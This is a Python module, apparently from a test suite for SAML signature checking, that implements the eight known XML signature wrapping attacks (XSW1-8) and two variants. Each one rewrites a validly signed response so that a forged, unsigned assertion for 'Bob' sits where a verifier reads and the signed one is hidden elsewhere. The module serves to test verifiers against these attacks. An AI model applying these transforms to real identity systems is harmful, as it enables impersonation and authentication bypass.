"""Signature wrapping: what was signed stays in the document, whole, and something else stands where a reader looks.

The eight ways that are known by number (XSW 1 to 8; Somorovsky and others, "On Breaking SAML: Be Whoever You Want to
Be", 2012). Each takes a document that is signed right, and puts Bob in the place of Alice.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

from .liar import ASSERTION, DS, PROTOCOL

SIGNATURE = f"{{{DS}}}Signature"


def evil(element: Any, *, same_id: bool = False) -> Any:
    """A copy of it that is about Bob, without a signature."""
    made = copy.deepcopy(element)
    for signature in list(made.iter(SIGNATURE)):
        signature.getparent().remove(signature)
    for name in made.iter(f"{{{ASSERTION}}}NameID"):
        name.text = "id-of-bob"
    for value in made.iter(f"{{{ASSERTION}}}AttributeValue"):
        value.text = "bob@acme.example"
    if not same_id:
        for each in (made, *made.iter(f"{{{ASSERTION}}}Assertion")):
            each.set("ID", f"{each.get('ID')}-evil")
    return made


def _own_signature(element: Any) -> Any:
    return element.find(SIGNATURE)


def _assertion(root: Any) -> Any:
    return root.find(f"{{{ASSERTION}}}Assertion")


def xsw1(root: Any, same_id: bool) -> Any:
    """The signature on an evil response; the signed one within the signature."""
    made, signature = evil(root, same_id=same_id), _own_signature(root)
    root.remove(signature)
    made.insert(1, signature)
    signature.append(root)
    return made


def xsw2(root: Any, same_id: bool) -> Any:
    """The same, with the signed one before the signature."""
    made, signature = evil(root, same_id=same_id), _own_signature(root)
    root.remove(signature)
    made.insert(1, root)
    made.insert(2, signature)
    return made


def xsw3(root: Any, same_id: bool) -> Any:
    """An evil assertion before the signed one."""
    signed = _assertion(root)
    root.insert(root.index(signed), evil(signed, same_id=same_id))
    return root


def xsw4(root: Any, same_id: bool) -> Any:
    """The signed assertion within an evil one."""
    signed = _assertion(root)
    made = evil(signed, same_id=same_id)
    root.replace(signed, made)
    made.append(signed)
    return root


def xsw5(root: Any, same_id: bool) -> Any:
    """The signature moved to an evil assertion, and what it signs behind it."""
    signed = _assertion(root)
    made, signature = evil(signed, same_id=same_id), _own_signature(signed)
    root.replace(signed, made)
    signed.remove(signature)
    made.insert(1, signature)
    root.append(signed)
    return root


def xsw6(root: Any, same_id: bool) -> Any:
    """The signature moved to an evil assertion, and what it signs within it."""
    signed = _assertion(root)
    made, signature = evil(signed, same_id=same_id), _own_signature(signed)
    root.replace(signed, made)
    signed.remove(signature)
    made.insert(1, signature)
    signature.append(signed)
    return root


def xsw7(root: Any, same_id: bool) -> Any:
    """An evil assertion among extensions, where a schema allows anything."""
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(evil(_assertion(root), same_id=same_id))
    root.insert(1, extensions)
    return root


def xsw8(root: Any, same_id: bool) -> Any:
    """The signed assertion in an Object of the signature, which was moved to an evil one."""
    made = xsw6(root, same_id)
    signature = next(made.iter(SIGNATURE))
    signed = signature[-1]
    etree.SubElement(signature, f"{{{DS}}}Object").append(signed)
    return made


def only_in_extensions(root: Any, same_id: bool) -> Any:
    """The signed assertion among extensions, and an evil one without a signature in its place."""
    signed = _assertion(root)
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    root.replace(signed, evil(signed, same_id=same_id))
    extensions.append(signed)
    root.insert(1, extensions)
    return root


WAYS: dict[str, tuple[str, Callable[[Any, bool], Any]]] = {
    "XSW1": ("response", xsw1), "XSW2": ("response", xsw2), "XSW3": ("assertion", xsw3), "XSW4": ("assertion", xsw4),
    "XSW5": ("assertion", xsw5), "XSW6": ("assertion", xsw6), "XSW7": ("assertion", xsw7), "XSW8": ("assertion", xsw8),
    "signed one among extensions": ("assertion", only_in_extensions),
    "XSW3 in a signed response that was changed": ("both", xsw3),
}  # fmt: skip
